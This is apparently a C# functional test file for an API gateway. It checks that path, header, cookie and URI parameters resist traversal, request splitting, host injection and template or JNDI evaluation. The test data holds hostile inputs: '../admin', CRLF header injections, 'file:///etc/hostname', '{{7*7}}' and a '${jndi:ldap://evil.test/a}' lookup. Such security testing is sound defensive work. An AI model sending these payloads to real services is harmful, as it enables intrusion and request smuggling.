using System.Text;
using Tutti.Contracts.Aggregation;
using Tutti.FunctionalTests.Support;
using Tutti.Gateway.Registry;

namespace Tutti.FunctionalTests.Threats;

/// <summary>Values and registrations that want to reach something else.</summary>
public sealed class ParameterThreatTests(SharedGateway shared)
{
    readonly TestGateway _gateway = shared.Gateway;

    [Theory]
    [InlineData("../admin", "/v1/item/..%2Fadmin")]
    [InlineData("%2e%2e", "/v1/item/%252e%252e")]
    [InlineData("..\\admin", "/v1/item/..%5Cadmin")]
    [InlineData("a%2fb", "/v1/item/a%252fb")]
    [InlineData("a;b", "/v1/item/a%3Bb")]
    [InlineData("?x=1#y", "/v1/item/%3Fx%3D1%23y")]
    [InlineData("..", null)]
    [InlineData(".", null)]
    [InlineData("a\0b", null)]
    public async Task Threat_05_a_path_value_stays_one_segment_on_the_wire_or_is_refused(string value, string? target)
    {
        await using var backend = await Backend.StartAsync();

        var answer = await _gateway.AskAsync(Some.Part($"{backend.Url}/v1/item/${{id}}", Some.Param(ParamKind.Path, "id")), ("id", value));

        if (target is null)
        {
            answer.Errors.ShouldHaveSingleItem().ShouldContain("path parameter", Case.Insensitive);
            backend.Requests.ShouldBeEmpty();
        }
        else
        {
            answer.ShouldBeGood();
            backend.Request.Target.ShouldBe(target);
        }
    }

    [Theory]
    [InlineData("http://${host}/")]
    [InlineData("http://b.test:${port}/")]
    [InlineData("${scheme}://b.test/")]
    [InlineData("http://user@b.test/")]
    [InlineData("http://b.test\\\\@evil.test/")]
    [InlineData("file:///etc/hostname")]
    public async Task Threat_06_a_part_whose_host_a_caller_could_choose_is_not_registered(string uri)
    {
        var template = await File.ReadAllTextAsync(Path.Combine(AppContext.BaseDirectory, "Threats", "part.json"));
        using var content = new StringContent(template.Replace("{uri}", uri, StringComparison.Ordinal), Encoding.UTF8, "application/json");

        using var answer = await _gateway.Management.PostAsync("/admin/api/import?mode=update", content);

        ((int)answer.StatusCode).ShouldBe(400);
        (await answer.Content.ReadAsStringAsync()).ShouldContain("uriToInterpolate");
        (await _gateway.AskAsync(Some.Ask("threat-06")))[0].ShouldFailWith("PartId threat-06 is unsupported");
    }

    [Theory]
    [InlineData("a\r\nX-Evil: 1")]
    [InlineData("a\nX-Evil: 1")]
    [InlineData("a\0b")]
    [InlineData("ü")]
    public async Task Threat_09_a_header_value_that_would_split_the_request_is_refused(string value)
    {
        await using var backend = await Backend.StartAsync();

        var answer = await _gateway.AskAsync(Some.Part(backend.Url, Some.Param(ParamKind.Header, "X-A")), ("X-A", value));

        answer.ShouldFailWith("The value of parameter X-A holds characters that the header X-A cannot carry");
        backend.Requests.ShouldBeEmpty();
    }

    [Fact]
    public async Task Threat_09_an_id_that_would_split_the_request_is_encoded()
    {
        const string id = "a\r\nX-Evil: 1\0ü";
        await using var backend = await Backend.StartAsync();
        var part = await _gateway.RegisterOneAsync(Some.Part(backend.Url));

        await _gateway.AskAsync(new AggregateRequest(new RequestMeta(id), [Some.Ask(part) with { Id = id }]));

        backend.Request.Header("X-Evil").ShouldBeNull();
        backend.Request.Header("X-OCTOPARTS-PARENT-REQUEST-ID").ShouldBe("a%0D%0AX-Evil: 1%00%C3%BC");
        backend.Request.Header("X-OCTOPARTS-REQUEST-ID").ShouldBe("a%0D%0AX-Evil: 1%00%C3%BC");
    }

    [Theory]
    [InlineData("1; admin=1")]
    [InlineData("1\r\nX-Evil: 1")]
    [InlineData("1, 2=3")]
    public async Task Threat_10_a_cookie_value_stays_one_pair(string value)
    {
        await using var backend = await Backend.StartAsync();

        (await _gateway.AskAsync(Some.Part(backend.Url, Some.Param(ParamKind.Cookie, "c")), ("c", value))).ShouldBeGood();

        var cookie = backend.Request.Header("Cookie").ShouldNotBeNull();
        cookie.ShouldStartWith("c=");
        cookie.ShouldNotContain(";");
        cookie[2..].ShouldNotContain("=");
        backend.Request.Header("X-Evil").ShouldBeNull();
    }

    [Theory]
    [InlineData("${${x}}")]
    [InlineData("${jndi:ldap://evil.test/a}")]
    [InlineData("{{7*7}}")]
    [InlineData("${id}")]
    public async Task Threat_11_a_value_is_not_evaluated(string value)
    {
        await using var backend = await Backend.StartAsync();
        var part = Some.Part($"{backend.Url}/${{id}}", Some.Param(ParamKind.Path, "id"), Some.Param(ParamKind.Header, "X-A", "id"));

        await _gateway.AskAsync(part, ("id", value));

        Uri.UnescapeDataString(backend.Request.Target).ShouldBe($"/{value}");
        backend.Request.Header("X-A").ShouldBe(value);
    }
}
